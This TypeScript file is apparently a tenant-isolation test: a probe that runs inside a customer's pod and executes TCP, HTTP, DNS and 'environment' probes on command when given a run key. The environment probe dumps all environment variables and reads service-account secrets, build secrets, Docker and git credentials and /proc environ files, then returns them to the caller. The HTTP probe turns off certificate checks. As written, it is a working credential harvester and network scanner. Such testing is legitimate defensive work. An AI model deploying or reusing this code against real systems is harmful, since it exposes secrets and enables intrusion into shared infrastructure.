// Hostile code as a tenant would deploy it: a process of an Application of globex that tries from inside its pod what it is
// asked to try, and answers what happened. Asked only through the ingress, with the key of this run. It is sent to the pod as
// one text, so it imports nothing of ours but types.
import { timingSafeEqual } from 'node:crypto'
import { lookup } from 'node:dns/promises'
import { readdirSync, readFileSync, writeFileSync } from 'node:fs'
import { createServer, request as httpRequest, type IncomingMessage } from 'node:http'
import { request as httpsRequest } from 'node:https'
import { connect } from 'node:net'
import type { Probe, ProbeResult } from './probe.ts'

const patience = 2500
const maxText = 65_536
const refusedCodes = ['ECONNREFUSED', 'EHOSTUNREACH', 'ENETUNREACH', 'EACCES', 'EPERM']

function failure(error: unknown): ProbeResult {
  const code = typeof error === 'object' && error !== null && 'code' in error ? String(error.code) : String(error)
  if (code === 'ETIMEDOUT') return { kind: 'timeout' }
  return refusedCodes.includes(code) ? { kind: 'refused', code } : { kind: 'failed', code }
}

function tcp(host: string, port: number): Promise<ProbeResult> {
  return new Promise(resolve => {
    const socket = connect({ host, port })
    const end = (result: ProbeResult): void => {
      socket.destroy()
      resolve(result)
    }
    socket.setTimeout(patience, () => end({ kind: 'timeout' }))
    socket.on('connect', () => end({ kind: 'connected' }))
    socket.on('error', error => end(failure(error)))
  })
}

function http(probe: Extract<Probe, { kind: 'http' }>): Promise<ProbeResult> {
  return new Promise(resolve => {
    const send = probe.url.startsWith('https:') ? httpsRequest : httpRequest
    const options = {
      method: probe.method ?? 'GET',
      headers: probe.headers ?? {},
      timeout: probe.milliseconds ?? patience,
      // An attacker does not mind whose certificate it is.
      rejectUnauthorized: false,
    }
    const call = send(probe.url, options, answer => {
      const chunks: Buffer[] = []
      let size = 0
      answer.on('data', (chunk: Buffer) => {
        size += chunk.length
        if (size <= maxText) chunks.push(chunk)
      })
      answer.on('error', error => resolve(failure(error)))
      answer.on('end', () => resolve(answered(answer, Buffer.concat(chunks).toString())))
    })
    call.on('timeout', () => call.destroy(Object.assign(new Error('no answer'), { code: 'ETIMEDOUT' })))
    call.on('error', error => resolve(failure(error)))
    call.end(probe.body)
  })
}

function answered(answer: IncomingMessage, text: string): ProbeResult {
  const headers: Record<string, string> = {}
  for (const [name, value] of Object.entries(answer.headers)) if (value !== undefined) headers[name] = [value].flat().join(', ')
  return { kind: 'answered', status: answer.statusCode ?? 0, text, headers }
}

async function dns(name: string): Promise<ProbeResult> {
  try {
    return { kind: 'resolved', addresses: (await lookup(name, { all: true })).map(({ address }) => address) }
  } catch (error) {
    return failure(error)
  }
}

/** Where credentials lie for those who build and run images, and what a process knows of itself. */
const tellingPlaces = [
  '/proc/self/environ',
  '/proc/1/environ',
  '/proc/1/cmdline',
  '/proc/self/mountinfo',
  '/etc/resolv.conf',
  '/var/run/secrets',
  '/var/build-secrets',
  '/var/notary',
  '/platform',
  '/layers/config',
  '/root/.docker',
  '/home/cnb/.docker',
  '/builder/home',
  '/tekton/home',
  '/workspace/.git',
]

/** The text of a file, or of all files below a folder, three levels deep. */
function textsBelow(path: string, depth = 3): readonly string[] {
  try {
    const entries = readdirSync(path)
    return depth === 0 ? [] : entries.flatMap(name => textsBelow(`${path}/${name}`, depth - 1))
  } catch {
    return textOf(path)
  }
}

function textOf(path: string): readonly string[] {
  try {
    return [`${path}: ${readFileSync(path, 'utf8').slice(0, maxText)}`]
  } catch (error) {
    return [`${path}: ${error instanceof Error && 'code' in error ? error.code : 'unreadable'}`]
  }
}

/** Everything that a process can read of itself without rights. */
function environment(): ProbeResult {
  const home = process.env['HOME'] ?? '/'
  const texts = [...tellingPlaces, `${home}/.docker`, `${home}/.git-credentials`].flatMap(path => textsBelow(path))
  return { kind: 'text', text: [JSON.stringify(process.env), ...texts].join('\n') }
}

function tryProbe(probe: Probe): Promise<ProbeResult> {
  switch (probe.kind) {
    case 'tcp':
      return tcp(probe.host, probe.port)
    case 'http':
      return http(probe)
    case 'dns':
      return dns(probe.name)
    case 'environment':
      return Promise.resolve(environment())
  }
}

const key = Buffer.from(process.env['ATTACK_KEY'] ?? '')

function isAsked(given: string | undefined): boolean {
  const text = Buffer.from(given ?? '')
  return key.length > 20 && text.length === key.length && timingSafeEqual(text, key)
}

async function bodyOf(request: IncomingMessage): Promise<string> {
  const chunks: Buffer[] = []
  for await (const chunk of request) chunks.push(chunk as Buffer)
  return Buffer.concat(chunks).toString()
}

/** In a build: tries what the file says, and leaves the results beside it. */
async function tryFile(path: string): Promise<void> {
  const probes = JSON.parse(readFileSync(path, 'utf8')) as readonly Probe[]
  writeFileSync(`${path}.results`, JSON.stringify(await Promise.all(probes.map(tryProbe))))
}

/** In an application: tries what it is asked to. */
function serve(): void {
  const server = createServer((request, response) => {
    if (request.url === '/healthz') {
      response.end('ok')
      return
    }
    if (!isAsked(request.headers['x-attack-key'] as string | undefined)) {
      response.writeHead(403).end()
      return
    }
    bodyOf(request)
      .then(text => tryProbe(JSON.parse(text) as Probe))
      .then(result => response.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify(result)))
      .catch((error: unknown) => response.writeHead(500).end(String(error)))
  })
  server.listen(Number(process.env['PORT'] ?? 3000))
  for (const signal of ['SIGTERM', 'SIGINT'] as const) process.on(signal, () => process.exit(0))
}

const file = process.env['ATTACK_PROBES']
if (file === undefined) serve()
else await tryFile(file)
